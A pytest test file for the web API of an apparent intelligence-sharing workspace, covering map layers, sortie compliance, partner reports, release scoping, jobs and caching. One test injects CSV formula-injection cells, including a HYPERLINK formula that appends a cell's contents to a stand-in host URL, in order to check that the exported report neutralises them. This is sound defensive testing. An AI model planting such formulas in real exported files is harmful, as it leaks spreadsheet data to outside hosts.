"""API: layer, table, report, truth and job endpoints behind the web workspace, and their egress scoping."""

from __future__ import annotations

import gzip
import json
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import h3
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient

from atalaya.api.app import create_app
from atalaya.api.routes_map import density, resolution_for_zoom
from atalaya.api.users import add_user
from atalaya.core.workspace import Workspace
from atalaya.model.observation import SCHEMA
from atalaya.sovereignty.agreements import example_document, parse_agreement, store_agreements
from atalaya.store.knowledge import KnowledgeStore
from atalaya.store.knowledge import schema as ks
from atalaya.store.lake import Lake
from atalaya.store.translog.node import open_log

AGREEMENT = {
    **example_document(),
    "id": "usa-mex-2026",
    "effective": {"from": "2026-01-01T00:00:00Z", "to": "2030-01-01T00:00:00Z"},
    "sharing": [{"from": "USA", "to": "MEX", "max_tlp": "AMBER", "caveats": ["NO-ACTION-WITHOUT-HOST-CONSENT"]}],
}
AGREEMENT["collection"] = [{**AGREEMENT["collection"][0], "id": "usa-mex-2026/C1"}]
REL = "TLP:AMBER;REL:MEX,USA;CAV:NO-ACTION-WITHOUT-HOST-CONSENT;ORIG:USA"
OWN = "TLP:AMBER;REL:USA;ORIG:USA"
T0 = datetime(2026, 3, 2, 6, tzinfo=UTC)
T1 = datetime(2026, 3, 2, 9, tzinfo=UTC)
T2 = datetime(2026, 3, 3, 6, tzinfo=UTC)

GPX = """<?xml version="1.0" encoding="UTF-8"?>
<gpx version="1.1" creator="test" xmlns="http://www.topografix.com/GPX/1/1"><trk><name>S-X</name><src>MQ9-01</src>
<type>MQ-9</type><trkseg>
<trkpt lat="31.5" lon="-110.3"><ele>5000</ele><time>2026-03-02T00:00:00Z</time></trkpt>
<trkpt lat="31.4" lon="-110.2"><ele>5000</ele><time>2026-03-02T00:01:00Z</time></trkpt>
<trkpt lat="31.3" lon="-110.1"><ele>5000</ele><time>2026-03-02T00:02:00Z</time></trkpt>
</trkseg></trk></gpx>
"""


def _line(*pts: tuple[float, float]) -> str:
    return json.dumps({"type": "LineString", "coordinates": [list(p) for p in pts]})


def _truth(root: Path) -> Path:
    truth = root / "truth"
    (truth / "tracks").mkdir(parents=True)
    pq.write_table(
        pa.table({"site_id": ["lab-001"], "kind": ["lab"], "lon": [-107.0], "lat": [25.0], "state": ["MX-SIN"]}),
        truth / "sites.parquet",
    )
    n = 4
    pq.write_table(
        pa.table(
            {
                "object_id": ["veh-1"] * 2 + ["MQ9-01"] * 2,
                "kind": ["vehicle"] * 2 + ["platform"] * 2,
                "time": pa.array([T0, T1, T0, T1], type=pa.timestamp("us", tz="UTC")),
                "lon": [-107.0, -106.9, -110.0, -110.1][:n],
                "lat": [25.0, 25.1, 31.0, 31.1][:n],
            }
        ),
        truth / "tracks" / "2026-03-02.parquet",
    )
    return truth


@pytest.fixture
def client(workspace: Workspace, tmp_path: Path) -> Iterator[TestClient]:
    store = KnowledgeStore.open(workspace.db_url)
    add_user(store, "ana", "analyst-pass", party="USA", role="analyst")
    add_user(store, "adm", "admin-pass-1", party="USA", role="admin")
    add_user(store, "lia", "liaison-pass", party="MEX", role="liaison")
    now = datetime.now(UTC)
    cells = [h3.latlng_to_cell(25.0, -107.0, 6), h3.latlng_to_cell(25.05, -107.05, 6)]
    record = {"status": "violation", "compliant": False, "worst": "major", "hosts": ["MEX"],
              "violations": [{"rule": "depth", "severity": "major", "message": "deeper than 60 km"}]}  # fmt: skip
    store_agreements(store, [parse_agreement(AGREEMENT)])
    with store.begin() as conn:
        conn.execute(
            ks.verdicts.insert(),
            [
                {"sortie_id": "S-1", "status": "violation", "reason": "1 violation(s) over MEX: depth",
                 "worst": "major", "n_violations": 1, "hosts": ["MEX"], "audience": ["MEX"],
                 "track_points": 120, "record": record, "checked_at": now},
                {"sortie_id": "S-2", "status": "compliant", "reason": "every rule met over MEX", "worst": None,
                 "n_violations": 0, "hosts": ["MEX"], "audience": ["MEX"], "track_points": 80,
                 "record": {"status": "compliant", "violations": []}, "checked_at": now},
                {"sortie_id": "S-3", "status": "no-host", "reason": "never entered another party's territory",
                 "worst": None, "n_violations": 0, "hosts": [], "audience": [], "track_points": 50,
                 "record": {"status": "no-host", "violations": []}, "checked_at": now},
            ],
        )  # fmt: skip
        conn.execute(
            ks.tracks.insert(),
            [
                {"id": "trk-1", "kind": "vehicle", "ident": "ABC123", "start": T0, "end": T1, "n_points": 3,
                 "geometry": _line((-107.0, 25.0), (-106.9, 25.1), (-106.8, 25.2)), "marking": REL},
                {"id": "trk-2", "kind": "vessel", "ident": "345000001", "start": T2, "end": T2, "n_points": 2,
                 "geometry": _line((-110.0, 24.0), (-110.1, 24.1)), "marking": OWN},
            ],
        )  # fmt: skip
        conn.execute(
            ks.corridors.insert(),
            [{"id": "cor-1", "h3_cells": cells, "volume": 12, "kind": "road", "rank": 1, "marking": REL}],
        )
        conn.execute(
            ks.crossings.insert(),
            [
                {"id": "xing-1", "lon": -106.5, "lat": 31.7, "count": 7, "first_seen": T0, "last_seen": T1,
                 "marking": REL},
                {"id": "xing-2", "lon": -108.5, "lat": 31.3, "count": 2, "first_seen": T2, "last_seen": T2,
                 "marking": OWN},
            ],
        )  # fmt: skip
        conn.execute(
            ks.sorties.insert(),
            [
                {"id": "S-1", "platform_type": "MQ-9", "party_id": "USA", "takeoff": T0, "landing": T1,
                 "agreement_id": "usa-mex-2026", "marking": OWN},
                {"id": "S-2", "platform_type": "U-2", "party_id": "USA", "takeoff": T2, "landing": T2,
                 "agreement_id": None, "marking": OWN},
                {"id": "S-3", "platform_type": "RC-135", "party_id": "USA", "takeoff": T2, "landing": T2,
                 "agreement_id": None, "marking": OWN},
            ],
        )  # fmt: skip
        conn.execute(
            ks.sites.insert(),
            [
                {"id": "site--a", "kind": "lab", "lon": -107.0, "lat": 25.0, "score": 0.9, "marking": REL},
                {"id": "site--b", "kind": "lab", "lon": -107.5, "lat": 25.5, "score": 0.8, "marking": OWN},
            ],
        )
    maritime = workspace.root / "analysis" / "maritime"
    maritime.mkdir(parents=True)
    pq.write_table(
        pa.table(
            {
                "event_id": ["gap-1", "gap-2"],
                "mmsi": ["345000001", "345000002"],
                "start": [T0.isoformat(), T2.isoformat()],
                "end": [T1.isoformat(), T2.isoformat()],
                "start_lon": [-110.0, -111.0],
                "start_lat": [24.0, 23.0],
                "end_lon": [-110.5, -111.2],
                "end_lat": [23.5, 22.9],
                "marking": [REL, OWN],
            }
        ),
        maritime / "dark_gaps.parquet",
    )
    (maritime / "rendezvous.json").write_text(
        json.dumps([{"rendezvous_id": "rdv-1", "lon": -109.0, "lat": 22.0, "start": T0.isoformat(), "marking": REL}])
    )
    with open_log(workspace) as log:
        log.append({"kind": "agreement", "id": "usa-mex-2026", "version": 1})
    app = create_app(workspace, store=store, truth_dir=_truth(tmp_path))
    with TestClient(app) as c:
        yield c
    store.close()


def _login(c: TestClient, user: str, pw: str) -> dict[str, str]:
    r = c.post("/api/auth/login", json={"username": user, "password": pw})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['token']}"}


def _log_size(ws: Workspace) -> int:
    with open_log(ws, readonly=True) as log:
        return log.size


def test_every_new_route_needs_a_login(client: TestClient) -> None:
    for path in ("/api/tracks", "/api/map/tracks", "/api/corridors", "/api/map/corridors", "/api/crossings",
                 "/api/map/crossings", "/api/maritime/events", "/api/map/maritime", "/api/sorties",
                 "/api/reports/partner?party=MEX", "/api/jobs", "/api/map/sites", "/api/map/days",
                 "/api/map/truth/sites"):  # fmt: skip
        assert client.get(path).status_code == 401, path


def test_tracks_table_map_and_day_filter(client: TestClient) -> None:
    h = _login(client, "ana", "analyst-pass")
    r = client.get("/api/tracks", params={"limit": 1}, headers=h).json()
    assert r["total"] == 2 and r["next_offset"] == 1
    assert "geometry" not in r["items"][0]
    fc = client.get("/api/map/tracks", headers=h).json()
    assert {f["properties"]["id"] for f in fc["features"]} == {"trk-1", "trk-2"}
    assert fc["features"][0]["geometry"]["type"] == "LineString"
    day = client.get("/api/map/tracks", params={"day": "2026-03-03"}, headers=h).json()
    assert [f["properties"]["id"] for f in day["features"]] == ["trk-2"]
    one = client.get("/api/tracks/trk-1", headers=h).json()
    assert one["geometry"]["coordinates"][0] == [-107.0, 25.0]
    assert client.get("/api/tracks/nope", headers=h).status_code == 404
    assert client.get("/api/map/tracks", params={"day": "March"}, headers=h).status_code == 422


def test_corridors_are_h3_polygons_and_crossings_points(client: TestClient) -> None:
    h = _login(client, "ana", "analyst-pass")
    fc = client.get("/api/map/corridors", headers=h).json()
    assert fc["features"][0]["geometry"]["type"] in ("Polygon", "MultiPolygon")
    assert fc["features"][0]["properties"]["volume"] == 12
    assert client.get("/api/corridors", headers=h).json()["items"][0]["n_cells"] == 2
    xs = client.get("/api/map/crossings", params={"day": "2026-03-02"}, headers=h).json()
    assert [f["properties"]["id"] for f in xs["features"]] == ["xing-1"]
    assert client.get("/api/crossings", headers=h).json()["items"][0]["id"] == "xing-1"  # by count


def test_maritime_events_from_analysis_files(client: TestClient) -> None:
    h = _login(client, "ana", "analyst-pass")
    ev = client.get("/api/maritime/events", headers=h).json()
    assert ev["total"] == 3
    kinds = {e["id"]: e["kind"] for e in ev["items"]}
    assert kinds == {"gap-1": "dark_gap", "gap-2": "dark_gap", "rdv-1": "rendezvous"}
    fc = client.get("/api/map/maritime", params={"day": "2026-03-02"}, headers=h).json()
    geoms = sorted(f["geometry"]["type"] for f in fc["features"])
    assert geoms == ["LineString", "Point", "Point"]  # gap-1 (point + gap line) and rdv-1
    only = client.get("/api/maritime/events", params={"kind": "dark_gap", "limit": 1}, headers=h).json()
    assert only["total"] == 2 and len(only["items"]) == 1


def test_sorties_with_compliance_and_filters(client: TestClient) -> None:
    h = _login(client, "ana", "analyst-pass")
    r = client.get("/api/sorties", headers=h).json()
    assert r["total"] == 3
    assert r["counts"] == {"violation": 1, "compliant": 1, "no-host": 1}
    by_id = {s["id"]: s for s in r["items"]}
    assert by_id["S-1"]["worst"] == "major" and by_id["S-1"]["n_violations"] == 1
    v = client.get("/api/sorties", params={"compliance": "violation"}, headers=h).json()
    assert [s["id"] for s in v["items"]] == ["S-1"]
    one = client.get("/api/sorties/S-1", headers=h).json()
    assert one["status"] == "violation" and one["verdict"]["violations"][0]["rule"] == "depth"
    assert client.get("/api/sorties/nope", headers=h).status_code == 404


def test_partner_report_formats(client: TestClient) -> None:
    h = _login(client, "ana", "analyst-pass")
    assert client.get("/api/reports/partner", headers=h).status_code == 422
    rep = client.get("/api/reports/partner", params={"party": "mex"}, headers=h).json()
    assert rep["party"] == "MEX"
    # the report re-checks the sorties: no flown track is in this lake, so S-1 (claimed over MEX) is unverifiable
    assert rep["totals"]["unverifiable"] == 1 and [v["sortie_id"] for v in rep["verdicts"]] == ["S-1"]
    assert client.get("/api/reports/partner", params={"party": "XYZ"}, headers=h).status_code == 422
    csv_text = client.get("/api/reports/partner", params={"party": "MEX", "format": "csv"}, headers=h).text
    assert csv_text.splitlines()[0].startswith("sortie_id,")
    page = client.get("/api/reports/partner", params={"party": "MEX", "format": "html"}, headers=h)
    assert page.headers["content-type"].startswith("text/html") and "MEX" in page.text


def test_partner_report_csv_is_formula_safe_and_its_download_name_too(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    import csv
    import io

    from atalaya.sovereignty import service

    real = service.report

    def with_hostile_cells(*args: Any, **kwargs: Any) -> Any:
        rep = real(*args, **kwargs)  # a manifest's names and ids come from outside: put formulas in the CSV
        path = rep.paths["csv"]
        hostile = '=HYPERLINK("http://x.example/"&A1),2026-03-01,+cmd,@SUM(1),-2+3,"\tx","\rx",-12.5\r\n'
        path.write_text(path.read_text(encoding="utf-8") + hostile, encoding="utf-8")
        return rep

    monkeypatch.setattr(service, "report", with_hostile_cells)
    h = _login(client, "ana", "analyst-pass")
    r = client.get("/api/reports/partner", params={"party": "mex", "format": "csv"}, headers=h)
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.text, newline="")))
    assert rows[-1] == ["'=HYPERLINK(\"http://x.example/\"&A1)", "2026-03-01", "'+cmd", "'@SUM(1)", "'-2+3", "'\tx",
                        "'\rx", "-12.5"]  # fmt: skip
    cd = r.headers["content-disposition"]
    assert cd.count("filename=") == 1 and "filename*=UTF-8''compliance-MEX.csv" in cd
    page = client.get("/api/reports/partner", params={"party": "MEX", "format": "html"}, headers=h)
    assert "'unsafe-inline'" not in page.headers["content-security-policy"]
    assert "style-src 'sha256-" in page.headers["content-security-policy"]


def test_liaison_sees_only_released_items_and_each_release_is_logged(client: TestClient, workspace: Workspace) -> None:
    h = _login(client, "lia", "liaison-pass")
    before = _log_size(workspace)
    assert [t["id"] for t in client.get("/api/tracks", headers=h).json()["items"]] == ["trk-1"]
    # an empty partner view says why
    gaps = client.get("/api/maritime/events", params={"kind": "loitering"}, headers=h).json()
    assert gaps["items"] == [] and gaps["why_empty"] == "nothing to release: there are no maritime yet"
    assert client.get("/api/tracks/trk-2", headers=h).status_code == 404
    assert [f["properties"]["id"] for f in client.get("/api/map/tracks", headers=h).json()["features"]] == ["trk-1"]
    assert [f["properties"]["id"] for f in client.get("/api/map/sites", headers=h).json()["features"]] == ["site--a"]
    assert [c["id"] for c in client.get("/api/crossings", headers=h).json()["items"]] == ["xing-1"]
    assert {e["id"] for e in client.get("/api/maritime/events", headers=h).json()["items"]} == {"gap-1", "rdv-1"}
    # accountability: every sortie over MEX is visible to MEX, whatever its marking; S-3 never entered MEX
    assert {s["id"] for s in client.get("/api/sorties", headers=h).json()["items"]} == {"S-1", "S-2"}
    assert client.get("/api/sorties/S-3", headers=h).status_code == 404
    # a partner always gets its own party's report, whatever it asks for
    rep = client.get("/api/reports/partner", params={"party": "GTM"}, headers=h).json()
    assert rep["party"] == "MEX" and rep["release"]["recipient"] == "MEX"
    after = _log_size(workspace)
    with open_log(workspace, readonly=True) as log:
        kinds = {log.get(i)["kind"] for i in range(before, after)}
    assert after > before and kinds == {"dissemination"}
    # own-party-only data
    for path in ("/api/map/truth/sites", "/api/jobs", "/api/map/detections"):
        assert client.get(path, headers=h).status_code == 403, path
    assert client.post("/api/jobs", json={"kind": "analyze"}, headers=h).status_code == 403


def test_truth_overlay_only_in_demo_mode(client: TestClient, workspace: Workspace) -> None:
    h = _login(client, "ana", "analyst-pass")
    sites = client.get("/api/map/truth/sites", headers=h).json()
    assert sites["features"][0]["properties"]["site_id"] == "lab-001"
    tracks = client.get("/api/map/truth/tracks", params={"day": "2026-03-02"}, headers=h).json()
    assert [f["properties"]["object_id"] for f in tracks["features"]] == ["veh-1"]  # platforms left out
    plain = create_app(workspace, store=KnowledgeStore.open(workspace.db_url))
    with TestClient(plain) as c2:
        h2 = _login(c2, "ana", "analyst-pass")
        r = c2.get("/api/map/truth/sites", headers=h2)
        assert r.status_code == 404 and "--truth" in r.json()["detail"]


def test_ingest_job_runs_with_progress_and_only_for_admins(client: TestClient, tmp_path: Path) -> None:
    gpx = tmp_path / "feeds" / "S-X.gpx"
    gpx.parent.mkdir()
    gpx.write_text(GPX, encoding="utf-8")
    ha = _login(client, "ana", "analyst-pass")
    assert client.post("/api/jobs", json={"kind": "ingest", "path": str(gpx)}, headers=ha).status_code == 403
    h = _login(client, "adm", "admin-pass-1")
    bad = client.post("/api/jobs", json={"kind": "ingest", "path": str(tmp_path / "missing")}, headers=h)
    assert bad.status_code == 422 and "no such path" in bad.json()["detail"]
    r = client.post("/api/jobs", json={"kind": "ingest", "path": str(gpx.parent)}, headers=h)
    assert r.status_code == 202
    job_id = r.json()["id"]
    deadline = time.monotonic() + 30
    job = r.json()
    while job["status"] not in ("done", "failed") and time.monotonic() < deadline:
        time.sleep(0.1)
        job = client.get(f"/api/jobs/{job_id}", headers=h).json()
    assert job["status"] == "done", job.get("error")
    assert job["progress"] == 1.0
    assert job["result"]["accepted"] == 3
    listed = client.get("/api/jobs", headers=h).json()
    assert listed["items"][0]["id"] == job_id
    assert client.get("/api/jobs/nope", headers=h).status_code == 404
    days = client.get("/api/map/days", headers=h).json()["days"]
    assert days == ["2026-03-02"]


def test_openapi_lists_the_layer_routes(client: TestClient) -> None:
    paths = client.get("/openapi.json").json()["paths"]
    for p in ("/api/map/tracks", "/api/sorties", "/api/reports/partner", "/api/jobs", "/api/map/truth/tracks"):
        assert p in paths


# --------------------------------------------------------------------------- detection density, caching, compression


def _observe(ws: Workspace, rows: list[tuple[str, str | None, float, float, datetime]]) -> None:
    """Commit observations (sensor, ident_kind, lon, lat, time) to the workspace's lake as one unit."""
    table = pa.Table.from_pylist(
        [
            {"obs_id": uuid.uuid4().bytes, "time": t, "lon": lon, "lat": lat, "sensor": sensor, "kind": "detection",
             "ident_kind": kind, "marking": OWN, "format": "test", "src_file": "test", "src_rec": n,
             "ingest_run": "test"}
            for n, (sensor, kind, lon, lat, t) in enumerate(rows)
        ],
        schema=SCHEMA,
    )  # fmt: skip
    days = np.array([(t.date() - datetime(1970, 1, 1).date()).days for *_, t in rows])
    w = Lake(ws.lake_dir).writer(uuid.uuid4().hex)
    w.write(table, days, "test")
    w.commit({"kind": "test"})


def test_detection_density_counts_sensor_detections_only(client: TestClient, workspace: Workspace) -> None:
    _observe(
        workspace,
        [("EO", None, -107.0, 25.0, T0), ("SIGINT", "emitter", -107.0, 25.0, T0), ("GMTI", None, -99.0, 19.4, T2),
         ("AIS", "mmsi", -107.0, 25.0, T0), ("ADSB", "icao24", -107.0, 25.0, T0),
         ("TRACK", "sortie", -107.0, 25.0, T0)],
    )  # fmt: skip
    h = _login(client, "ana", "analyst-pass")
    fc = client.get("/api/map/detections", params={"resolution": 5}, headers=h).json()
    counts = {f["properties"]["cell"]: f["properties"]["count"] for f in fc["features"]}
    assert counts == {h3.latlng_to_cell(25.0, -107.0, 5): 2, h3.latlng_to_cell(19.4, -99.0, 5): 1}
    assert fc["total"] == 3 and fc["in_view"] == 3 and fc["resolution"] == 5
    day = client.get("/api/map/detections", params={"resolution": 5, "day": "2026-03-03"}, headers=h).json()
    assert day["total"] == 1 and day["features"][0]["properties"]["count"] == 1
    eo = client.get("/api/map/detections", params={"sensor": "eo"}, headers=h).json()
    assert eo["total"] == 1
    bad = client.get("/api/map/detections", params={"sensor": "AIS"}, headers=h)
    assert bad.status_code == 422 and "EO" in bad.json()["detail"]


def test_detection_density_follows_the_view(client: TestClient, workspace: Workspace) -> None:
    _observe(
        workspace, [("EO", None, -107.0, 25.0, T0), ("RADAR", None, -99.0, 19.4, T0), ("IR", None, 170.0, 0.0, T0)]
    )
    h = _login(client, "ana", "analyst-pass")
    west = client.get("/api/map/detections", params={"zoom": 8, "bbox": "-108,24,-106,26"}, headers=h).json()
    assert west["resolution"] == resolution_for_zoom(8) == 6
    assert [f["properties"]["cell"] for f in west["features"]] == [h3.latlng_to_cell(25.0, -107.0, 6)]
    assert west["total"] == 3 and west["in_view"] == 1
    # a view across the antimeridian (west > east), and a world view
    pacific = client.get("/api/map/detections", params={"zoom": 3, "bbox": "160,-10,-170,10"}, headers=h).json()
    assert pacific["in_view"] == 1 and pacific["features"][0]["properties"]["cell"] == h3.latlng_to_cell(0, 170, 3)
    world = client.get("/api/map/detections", params={"zoom": 0, "bbox": "-540,-85,540,85"}, headers=h).json()
    assert world["in_view"] == 3
    for bbox in ("1,2,3", "0,10,1,5", "a,b,c,d"):
        r = client.get("/api/map/detections", params={"bbox": bbox}, headers=h)
        assert r.status_code == 422 and "west,south,east,north" in r.json()["detail"], bbox


def test_density_bins_before_the_cell_lookup() -> None:
    rng = np.random.default_rng(0)
    lon, lat = rng.uniform(-118, -86, 20_000), rng.uniform(14, 33, 20_000)
    for res in (3, 6, 9):
        d = density(lon, lat, res)
        assert d.total == 20_000 and int(d.count.sum()) == 20_000
        assert list(d.count) == sorted(d.count, reverse=True)  # densest first
        exact: dict[str, int] = {}
        for a, o in zip(lat.tolist(), lon.tolist(), strict=True):
            c = h3.latlng_to_cell(a, o, res)
            exact[c] = exact.get(c, 0) + 1
        got = {json.loads(d.feature(i))["properties"]["cell"]: n for i, n in enumerate(d.count.tolist())}
        # binning on a grid a quarter of a cell edge wide moves only points near a cell's border
        moved = sum(abs(got.get(c, 0) - exact.get(c, 0)) for c in exact.keys() | got.keys()) / 2
        assert moved / 20_000 < 0.1, (res, moved)
    assert density(np.zeros(0), np.zeros(0), 6).total == 0


def test_cached_layers_are_gzipped_and_revalidated(client: TestClient, workspace: Workspace) -> None:
    _observe(workspace, [("EO", None, -107.0, 25.0, T0)])
    h = _login(client, "ana", "analyst-pass")
    for path in ("/api/map/detections", "/api/map/tracks", "/api/map/sorties"):
        r = client.get(path, headers={**h, "Accept-Encoding": "gzip"})
        assert r.status_code == 200 and r.headers["content-encoding"] == "gzip", path
        tag = r.headers["etag"]
        again = client.get(path, headers={**h, "If-None-Match": tag})
        assert again.status_code == 304 and again.headers["etag"] == tag and not again.content, path
        plain = client.get(path, headers={**h, "Accept-Encoding": "identity"})
        assert "content-encoding" not in plain.headers and plain.json() == r.json(), path
    # new data makes a new entity
    before = client.get("/api/map/detections", headers=h)
    _observe(workspace, [("EO", None, -99.0, 19.4, T0)])
    after = client.get("/api/map/detections", headers={**h, "If-None-Match": before.headers["etag"]})
    assert after.status_code == 200 and after.json()["total"] == before.json()["total"] + 1


def test_territories_are_cached_compressed_and_revalidated(client: TestClient) -> None:
    h = _login(client, "ana", "analyst-pass")
    raw = client.get("/api/map/territories", headers={**h, "Accept-Encoding": "identity"})
    zipped = client.get("/api/map/territories", headers={**h, "Accept-Encoding": "gzip"})
    assert zipped.headers["content-encoding"] == "gzip" and zipped.headers["etag"] == raw.headers["etag"]
    assert len(gzip.compress(raw.content)) < len(raw.content) and zipped.json() == raw.json()
    assert {f["properties"]["owner"] for f in raw.json()["features"]} >= {"USA", "MEX"}
    assert client.get("/api/map/territories", headers={**h, "If-None-Match": raw.headers["etag"]}).status_code == 304


def test_map_tracks_see_table_changes_and_current_markings(client: TestClient, workspace: Workspace) -> None:
    h = _login(client, "ana", "analyst-pass")
    assert client.get("/api/map/tracks", headers=h).json()["total"] == 2
    store = KnowledgeStore.open(workspace.db_url)
    try:
        with store.begin() as conn:
            conn.execute(
                ks.tracks.insert().values(id="trk-3", kind="vehicle", start=T0, end=T1, n_points=9, marking=REL,
                                          geometry=_line((-100.0, 20.0), (-100.1, 20.1)))
            )  # fmt: skip
        fc = client.get("/api/map/tracks", headers=h).json()
        assert fc["total"] == 3 and fc["features"][0]["properties"]["id"] == "trk-3"  # longest first
        assert [f["properties"]["id"] for f in client.get("/api/map/tracks", params={"kind": "vessel"},
                                                          headers=h).json()["features"]] == ["trk-2"]  # fmt: skip
        hl = _login(client, "lia", "liaison-pass")
        assert {f["properties"]["id"] for f in client.get("/api/map/tracks", headers=hl).json()["features"]} == {
            "trk-1", "trk-3"
        }  # fmt: skip
        with store.begin() as conn:  # withdrawn from the partner: a marking change alone is enough
            conn.execute(ks.tracks.update().where(ks.tracks.c.id == "trk-3").values(marking=OWN))
        ids = [f["properties"]["id"] for f in client.get("/api/map/tracks", headers=hl).json()["features"]]
        assert ids == ["trk-1"]
    finally:
        store.close()
